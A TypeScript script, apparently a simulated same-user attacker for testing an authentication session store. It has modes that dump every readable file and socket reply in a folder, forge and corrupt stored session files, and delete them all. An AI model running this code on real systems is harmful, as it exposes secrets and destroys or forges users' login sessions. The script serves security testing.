import { readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { connect } from 'node:net';
import path from 'node:path';

/*
 * A program that runs as the same user, such as an install script or an agent's shell. It has no keys.
 * Usage: node hostileProgram.ts steal|plant|delete FOLDER
 */

const HELLO = '{"stored":[],"deleted":[],"asks":true}';

/** All files and sockets in a folder, recursively. */
async function listAll(folder: string): Promise<{ files: string[]; sockets: string[] }> {
  const entries = await readdir(folder, { recursive: true, withFileTypes: true });
  const pathsOf = (kind: 'isFile' | 'isSocket'): string[] =>
    entries.filter((entry) => entry[kind]()).map((entry) => path.join(entry.parentPath, entry.name));
  return { files: pathsOf('isFile'), sockets: pathsOf('isSocket') };
}

/** Returns what a socket sends within a second. */
function answerOf(socketPath: string): Promise<string> {
  return new Promise((resolve) => {
    let answer = '';
    const socket = connect(socketPath);
    const finish = (): void => {
      socket.destroy();
      resolve(answer);
    };
    socket.setTimeout(1_000, finish);
    socket.on('data', (data) => (answer += data.toString('latin1')));
    socket.on('error', finish);
    socket.on('end', finish);
    socket.end(HELLO);
  });
}

function isStoredSession(file: string): boolean {
  return /bap-authentication\/sessions\/[0-9a-f]{32}\/[0-9a-f-]{36}\.[\d-]+\.(?:removed|[0-9a-f]{16})\.[0-9a-f]{16}$/.test(
    file,
  );
}

/** Prints everything it can read. */
async function steal(folder: string): Promise<void> {
  const { files, sockets } = await listAll(folder);
  process.stdout.write(`${files.length} files, ${sockets.length} sockets\n`);
  for (const file of files) process.stdout.write(await readFile(file, 'latin1').catch(() => ''));
  for (const socket of sockets) process.stdout.write(await answerOf(socket));
}

/** Copies, corrupts and forges sessions, and prints the number of files written. */
async function plant(folder: string): Promise<void> {
  const stored = (await listAll(folder)).files.filter(isStoredSession);
  let written = 0;
  const write = async (file: string, bytes: Uint8Array): Promise<void> => {
    await writeFile(file, bytes);
    written += 1;
  };
  for (const file of stored) {
    const bytes = await readFile(file);
    const beside = (name: string): string => path.join(path.dirname(file), name);
    const [id = '', version = '', hash = '', tag = ''] = path.basename(file).split('.');
    await write(beside([crypto.randomUUID(), version, hash, tag].join('.')), bytes);
    await write(beside([id, '9-9-9', hash, tag].join('.')), bytes);
    await write(beside([id, version, 'removed', tag].join('.')), Buffer.alloc(0));
    await write(beside(crypto.randomUUID()), Buffer.from('{"state":"live"}'));
    bytes[20] = (bytes[20] ?? 0) ^ 1;
    await write(file, bytes);
  }
  process.stdout.write(`${written}\n`);
}

async function deleteAll(folder: string): Promise<void> {
  const stored = (await listAll(folder)).files.filter(isStoredSession);
  for (const file of stored) await rm(file);
  process.stdout.write(`${stored.length}\n`);
}

const [, , does, folder = ''] = process.argv;
if (does === 'steal') await steal(folder);
if (does === 'plant') await plant(folder);
if (does === 'delete') await deleteAll(folder);
